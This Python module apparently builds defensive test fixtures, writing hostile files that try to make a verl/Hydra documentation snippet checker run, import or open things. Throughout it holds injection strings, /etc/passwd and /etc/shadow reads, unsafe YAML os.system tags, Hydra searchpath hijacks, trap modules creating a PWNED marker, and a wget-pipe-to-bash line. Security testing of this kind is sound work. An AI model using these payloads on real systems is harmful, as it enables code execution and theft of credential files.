"""Documents that try to make the checker run, import or open something."""

from __future__ import annotations

import json
from pathlib import Path

PROGRAM = "python3 -m verl.trainer.main_ppo"
OVERRIDES = (
    "hydra.searchpath=[pkg://venv.__main__]",
    "hydra.searchpath=[pkg://this]",
    "hydra.searchpath=[pkg://evil_package]",
    "hydra.searchpath=[file:///etc]",
    "+hydra.searchpath=[pkg://evil_package]",
    "hydra={searchpath:[pkg://evil_package]}",
    "hydra/launcher=evil_package",
    "hydra/job_logging=../../../../etc/passwd",
    "hydra.run.dir=out",
    "hydra.launcher._target_=evil_package.main",
    "hydra.job.env_copy=[HOME]",
    "hydra.run.dir=${evil_package:x}",
    "trainer.project_name=${oc.env:HOME}",
    "+trainer.x=${python:evil_package}",
    "trainer.nnodes=choice(evil_package)",
    "reward.custom_reward_function.path=evil_package.py",
    "actor_rollout_ref.model.external_lib=evil_package",
    "+data._target_=os.system",
    "model_engine=../../../../../../etc/passwd",
    "actor@evil.package=/etc/passwd",
)
SHELL = (
    f"{PROGRAM} $(touch PWNED) `touch PWNED` <(touch PWNED)",
    "eval 'touch PWNED; import evil_package'; source evil_package.sh; . /etc/profile",
    f"{PROGRAM} --config-path=/etc --config-name=passwd",
    f"{PROGRAM} --config-dir=pkg://evil_package --config-name=../evil_package",
    f"{PROGRAM} --config-path=pkg://evil_package --config-name=evil",
    f"python3 -m evil_package {OVERRIDES[0]}; python3 evil_package.py trainer.nnode=1",
    f"cat /etc/passwd | xargs {PROGRAM} < /etc/shadow > PWNED",
    "wget http://127.0.0.1:9/x.sh -O - | bash",
)
MARKDOWN = (
    "```{include} /etc/passwd\n```\n",
    "```{literalinclude} /etc/shadow\n:language: bash\n```\n",
    "```{eval-rst}\n.. include:: /etc/passwd\n.. raw:: html\n   :url: http://127.0.0.1:9/\n```\n",
    "```{code-cell} python\nimport evil_package\n```\n",
    "---\njupytext:\n  text_representation: !!python/object/apply:os.system [touch PWNED]\n---\n",
    "<!-- snippet-checker: release=../../evil entry=evil_package.main mount=__import__ -->\n",
    "![x](file:///etc/passwd) [y](http://127.0.0.1:9/) {doc}`/etc/passwd`\n",
    "{py:mod}`evil_package` {download}`/etc/passwd` $`\\input{/etc/passwd}`$\n",
)
REST = (
    ".. include:: /etc/passwd\n",
    ".. literalinclude:: /etc/shadow\n",
    ".. raw:: html\n   :file: /etc/passwd\n",
    ".. csv-table::\n   :file: /etc/passwd\n",
    ".. csv-table::\n   :url: http://127.0.0.1:9/\n",
    ".. image:: /etc/passwd\n",
    ".. |x| include:: /etc/passwd\n\n|x|\n",
    ".. role:: evil_package(raw)\n   :format: html\n\n:evil_package:`x`\n",
    ".. code-block:: python\n\n   __import__('evil_package')\n",
    ".. automodule:: evil_package\n",
    ".. default-role:: evil_package\n\n`x`\n",
)
YAML = (
    "!!python/object/apply:os.system ['touch PWNED']\n",
    "trainer: !!python/name:evil_package.x\n",
    "trainer: !include /etc/passwd\n",
    "trainer:\n  nnodes: !!python/object/new:evil_package []\n",
    "defaults:\n  - pkg://evil_package\n  - /etc/passwd\nhydra:\n  searchpath: [pkg://evil_package]\n",
    "hydra:\n  searchpath: ['pkg://venv.__main__', 'file:///etc']\n",
    "hydra:\n  run: {dir: '${evil_package:}'}\n",
)
PYTHON = (
    "config.trainer.nnodes = __import__('evil_package')\n",
    "config.trainer.nnodes = open('/etc/passwd').read()\n",
    "OmegaConf.update(config, 'trainer.nnodes', exec('import evil_package'))\n",
    'subprocess.run(["python3", "-m", "verl.trainer.main_ppo", "hydra.searchpath=[pkg://this]"])\n',
    "config.trainer.nnodes = '\\d' 'evil_package'\n",
)

PROGRAMS = (
    *PYTHON,
    f'import os\nos.system("{PROGRAM} trainer.nnode=1")\nopen("PWNED", "w").close()\n',
    f'"""{PROGRAM} \n{PROGRAM} a.b=c\n"""\nimport evil_package\nraise SystemExit(1)\n',
    "with initialize_config_dir(config_dir='verl/trainer/config'):\n"
    "    config = compose(config_name='../evil_package', overrides=['hydra.searchpath=[pkg://evil]'])\n",
    f"# {PROGRAM} {OVERRIDES[0]}\ndef broken(:\n",
)
DATA = (
    '{"command": "python3", "args": ["-m", "verl.trainer.main_ppo", "hydra.searchpath=[file:///etc]"]}',
    '{"$ref": "file:///etc/passwd", "extends": "/etc/verl", "command": "touch PWNED; verl"}',
)
IMAGES = (
    "FROM x\nRUN touch PWNED verl\nCOPY /etc/passwd /x\nADD http://127.0.0.1:9/verl /x\n",
    f"RUN <<E\n{PROGRAM} $(touch PWNED)\nE\n",
)
RULES = (f"A := $(shell touch PWNED)\ninclude /etc/passwd\na:\n\t{PROGRAM} $(A) $(file >PWNED)\n",)


def write(folder: Path) -> None:
    """Write them all, and beside them what they would run."""
    (folder / "evil_package").mkdir()
    trap = "from pathlib import Path\nPath('PWNED').touch()\n"
    for place in ("evil_package/__init__.py", "evil_package.py"):
        (folder / place).write_text(trap, encoding="utf-8")
    (folder / "hydra_plugins").mkdir()
    (folder / "hydra_plugins/__init__.py").write_text(trap, encoding="utf-8")
    commands = [f"{PROGRAM} '{override}' trainer.nnode=1" for override in OVERRIDES] + list(SHELL)
    script = "\n".join(commands) + "\n"
    texts = {
        "hostile.sh": script,
        "hostile.yaml": "---\n".join(YAML),
        "hostile.rst": "\n".join(REST),
        "hostile.md": "\n".join(MARKDOWN)
        + "".join(f"\n```bash\n{command}\n```\n\n`{command}`\n" for command in commands)
        + "".join(f"\n```yaml\n{text}```\n" for text in YAML)
        + "".join(f"\n```python\n{text}```\n" for text in PYTHON),
        "hostile.po": 'msgid ""\nmsgstr "Language: ja\\n"\n\n'
        + "".join(
            f'#: ../../{kind}:1\nmsgid "{quoted(text)}"\nmsgstr "{quoted(text)} 訳"\n\n'
            for kind, texts in (("a.md", MARKDOWN), ("a.rst", REST))
            for text in texts
        ),
    }
    texts |= {
        "hostile.mdx": "import x from '/etc/passwd'\n\n{fetch('http://127.0.0.1:9')}\n\n"
        + "\n".join(MARKDOWN),
        "hostile.ipynb": json.dumps(
            {
                "cells": [
                    *({"cell_type": "markdown", "source": text} for text in MARKDOWN),
                    *({"cell_type": "code", "source": text} for text in PYTHON),
                    *({"cell_type": "code", "source": f"!{command}"} for command in commands),
                    {"cell_type": "code", "source": "%run evil_package.py\n%load /etc/passwd\n"},
                ]
            }
        ),
        "hostile.toml": f'a = """{PROGRAM} $(touch PWNED)"""\nb = ["{PROGRAM}"]\n',
        "hostile.just": f"import '/etc/passwd'\na := `touch PWNED`\nb:\n  {PROGRAM} {{{{a}}}}\n",
    }
    for kind, several in (("py", PROGRAMS), ("json", DATA), ("dockerfile", IMAGES), ("mk", RULES)):
        texts |= {f"hostile{number}.{kind}": text for number, text in enumerate(several)}
    for name, text in texts.items():
        (folder / name).write_text(text, encoding="utf-8")
    for number, text in enumerate(YAML):
        (folder / f"hostile{number}.yaml").write_text(text, encoding="utf-8")


def quoted(text: str) -> str:
    return text.replace("\\", "\\\\").replace('"', '\\"').replace("\n", "\\n")
